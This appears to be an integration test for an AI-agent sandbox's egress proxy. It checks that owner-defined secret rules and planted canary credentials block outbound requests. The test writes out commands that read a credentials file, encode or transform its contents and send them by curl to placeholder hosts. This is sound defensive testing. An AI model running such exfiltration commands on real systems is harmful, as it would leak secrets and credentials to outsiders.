import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { aDockerBb, untilReady, type DockerBb } from "./docker-kit.ts";

/** A policy as an owner writes it, from the API to the proxy of a real bottle. */

/** Names that lead nowhere (RFC 6761): what passes the policy and every scan ends in 502. */
const [OWN, OTHER] = ["own.invalid", "other.invalid"];
const TICKET = "acme-0123456789abcdef0123456789abcdef";
const BADGE = "badge_0123456789abcdef";

const CLASS = `apiVersion: bot-bottle.dev/v1alpha1
kind: BottleClass
metadata: { name: guarded }
spec:
  provider: { name: claude }
  egress:
    canaries: planted
    routes:
      - { host: ${OWN}, methods: ["*"] }
      - { host: ${OTHER}, methods: ["*"] }
    rules:
      - name: ticket-token
        pattern: (?<secret>acme-[0-9a-f]{32})
        keywords: [acme-]
        allowHosts: [${OWN}]
    gitleaksRules: |
      [[rules]]
      id = "office-badge"
      regex = '''badge_[0-9a-f]{16}'''
      keywords = ["badge_"]
`;
const BOTTLE = `apiVersion: bot-bottle.dev/v1alpha1
kind: Bottle
metadata: { name: b }
spec: { classRef: { name: guarded } }
`;

let machine: DockerBb;
beforeAll(async () => {
  machine = aDockerBb();
  const applied = await machine.bb(["apply", "-f", "-"], { input: `${CLASS}---\n${BOTTLE}` });
  expect([applied.code, applied.code === 0 ? "" : applied.stderr]).toEqual([0, ""]);
  await untilReady(machine.bb, "b");
}, 900_000);
afterAll(() => machine.end());

async function inAgent(script: string): Promise<string> {
  const ran = await machine.bb(["exec", "b", "--", "sh", "-c", script]);
  expect([ran.code, ran.stderr]).toEqual([0, ""]);
  return ran.stdout;
}

/** Status of a request whose body is what the command says, and the rule of the denial. */
async function send(host: string, command: string): Promise<{ status: number; rule?: string }> {
  const written = `\n{"status":%{http_code}}`;
  const curl = `curl --silent --max-time 30 --data-binary @- --write-out '${written}' https://${host}/`;
  const lines = (await inAgent(`${command} | ${curl}`)).trim().split("\n");
  const { status } = JSON.parse(lines.at(-1) ?? "") as { status: number };
  const { rule } = JSON.parse(lines[0] ?? "") as { rule?: string };
  return rule === undefined ? { status } : { status, rule };
}

const say = (text: string): string => `printf %s '${text}'`;
const events = async (): Promise<string> => (await machine.bb(["describe", "bottle", "b"])).stdout;

describe("what an owner's rules find", () => {
  it("is refused by the rule's name, and passes to the host that may be sent it", async () => {
    expect(await send(OTHER, say(TICKET))).toEqual({ status: 403, rule: "ticket-token" });
    expect(await send(OTHER, `${say(TICKET)} | base64 -w0`)).toEqual({ status: 403, rule: "ticket-token" });
    expect(await send(OWN, say(TICKET))).toEqual({ status: 502 });
    expect(await send(OTHER, say(TICKET.slice(0, -1)))).toEqual({ status: 502 });
  });

  it("is refused by a rule of gitleaks as well", async () => {
    for (const host of [OWN, OTHER]) {
      expect(await send(host, say(BADGE))).toEqual({ status: 403, rule: "office-badge" });
    }
  });
});

describe("what is planted in the agent's home", () => {
  const FILE = "~/.credentials.bak";

  it("is refused to every host, in whole and in part, however it is written", async () => {
    const sent = [
      `cat ${FILE}`,
      `cut -d= -f2 ${FILE} | head -1`,
      `grep GITHUB ${FILE} | base64 -w0`,
      `sed -n 's/.*admin:\\(.*\\)@.*/\\1/p' ${FILE} | rev`,
      `tar c -C ~ .credentials.bak | gzip`,
    ];
    for (const command of sent) {
      for (const host of [OWN, OTHER])
        expect([command, await send(host, command)]).toEqual([command, { status: 403, rule: "canary" }]);
    }
  });

  it("is told of by an Event, and by the audit without a value", async () => {
    await expect.poll(events, { timeout: 20_000 }).toMatch(/CanarySent.*other\.invalid:443/);
    const values = (await inAgent(`cut -d= -f2- ${FILE}`)).trim().split("\n");
    expect(values).toHaveLength(4);
    const told = (await events()) + (await machine.bb(["logs", "b", "--audit"])).stdout;
    for (const value of values) expect(told).not.toContain(value);
  });
});
